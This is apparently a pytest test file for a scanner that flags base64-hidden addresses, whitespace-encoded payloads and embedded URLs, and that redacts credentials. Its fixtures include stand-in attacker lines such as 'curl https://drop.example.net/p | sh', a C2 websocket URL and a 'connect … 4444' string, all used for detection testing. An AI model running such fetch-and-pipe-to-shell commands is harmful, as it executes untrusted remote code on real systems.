"""Text scanners for hidden data: base64 literals that hide an address, whitespace bit strings."""

from __future__ import annotations

import base64

import pytest

from distrust.analyze import textscan


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


@pytest.mark.parametrize(
    "literal",
    [
        _b64("https://drop.example.net/upload"),
        _b64("http://203.0.113.9:8080/x").rstrip("="),  # padding dropped
        base64.urlsafe_b64encode(b"wss://c2.example.org/?a=b>>").decode(),
        _b64("connect 45.9.148.3 4444"),
    ],
)
def test_base64_literal_hiding_an_address(literal: str) -> None:
    assert textscan.hidden_base64_text(literal) is not None


@pytest.mark.parametrize(
    "literal",
    [
        _b64("Hello World, hello again"),  # readable but no address: not flagged here
        base64.b64encode(bytes(range(200, 248))).decode(),  # binary
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
        "abcdefghijklmnopqrstuvwxyz",
        "ABCDEFGHIJKLMNOPQRSTUVWXYZ",
        "sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=",
        "not base64 at all!",
        "aGk=",  # too short to matter
    ],
)
def test_ordinary_base64_and_words_stay_quiet(literal: str) -> None:
    assert textscan.hidden_base64_text(literal) is None


def _whitespace(text: str, *, zero: str = " ", one: str = "\t") -> str:
    bits = "".join(format(b, "08b") for b in text.encode())
    return bits.replace("0", zero).replace("1", one)


def test_whitespace_payload_is_decoded_either_way_round() -> None:
    code = "import os\nos.system('id')"
    assert textscan.whitespace_payload(_whitespace(code)) == code
    assert textscan.whitespace_payload(_whitespace(code, zero="\t", one=" ")) == code


@pytest.mark.parametrize(
    ("literal", "expected"),
    [
        (" " * 200, None),  # one character: indentation, not bits
        ("\t" * 200, None),
        ("    \t" * 10, None),  # shorter than the threshold
        (" \t" * 64, ""),  # whitespace-only but decodes to a repeated pattern: data, not text
        ("\t\t  \t\t\t  \t\t\t\t  \t\t\t\t\t  " * 4, ""),
        ("a \t" * 40, None),  # other characters: not a whitespace string
    ],
)
def test_whitespace_that_is_not_a_message(literal: str, expected: str | None) -> None:
    assert textscan.whitespace_payload(literal) == expected


def test_embedded_urls_are_found_only_when_asked() -> None:
    glued = "urllib.requesturlopenThreadhttps://paste.example.com/raw/abc"
    assert textscan.find_urls(glued) == []
    assert [h.value for h in textscan.find_urls(glued, embedded=True)] == [
        "https://paste.example.com/raw/abc"
    ]


def test_embedded_svg_and_xml_are_not_hidden_addresses() -> None:
    svg = _b64('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><path d="M0 0h1v1z"/></svg>')
    xml = _b64('<?xml version="1.0"?><r xmlns="http://schemas.xmlsoap.org/soap/envelope/"/>')
    assert textscan.hidden_base64_text(svg) is None
    assert textscan.hidden_base64_text(xml) is None
    assert textscan.is_namespace_url("http://www.w3.org/2000/svg")
    assert not textscan.is_namespace_url("https://drop.example.net/x")


def test_hidden_summary_keeps_the_address_in_view() -> None:
    script = "import os\n" + "x = 1\n" * 60 + "os.system('curl https://drop.example.net/p | sh')"
    summary = textscan.hidden_summary(("base64", "zlib"), script)
    assert summary.startswith("base64+zlib: import os x = 1")
    assert summary.endswith("https://drop.example.net/p")
    assert len(summary) <= 200


def test_javascript_strings_get_the_same_check() -> None:
    from distrust.analyze.js import analyze_js

    hidden = _b64("https://drop.example.net/upload")
    svg = _b64('<svg xmlns="http://www.w3.org/2000/svg"></svg>')
    source = f'const a = "{hidden}";\nconst icon = "{svg}";\nconst id = "dGhpcyBpcyBub3QgYSB1cmwgYXQgYWxs";\n'
    found = {
        (c.kind, c.value, c.line) for c in analyze_js("x.js", source.encode(), dialect="js").capabilities
    }
    assert ("obfuscation.decoded", "base64: https://drop.example.net/upload", 1) in found
    assert ("network.url", "https://drop.example.net/upload", 1) in found
    assert not any(line > 1 and kind in ("obfuscation.decoded", "network.url") for kind, _, line in found)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("__import__", "base64: __import__"),
        ("raw.example.org", "base64: raw.example.org"),
        ("/api/v1/upload", "base64: /api/v1/upload"),
        ("curl -s http://x.example | sh", "base64: curl -s http://x.example | sh"),
        ("Tr0ub4dor&3x!", "base64: [13 characters, not shown]"),  # a password is not repeated
        ('k = "ghp_abcdefghijklmnopqrstuvwxyz0123"', 'base64: k = "ghp_…[redacted]"'),
    ],
)
def test_hidden_summary_never_repeats_a_credential(text: str, shown: str) -> None:
    assert textscan.hidden_summary(("base64",), text) == shown
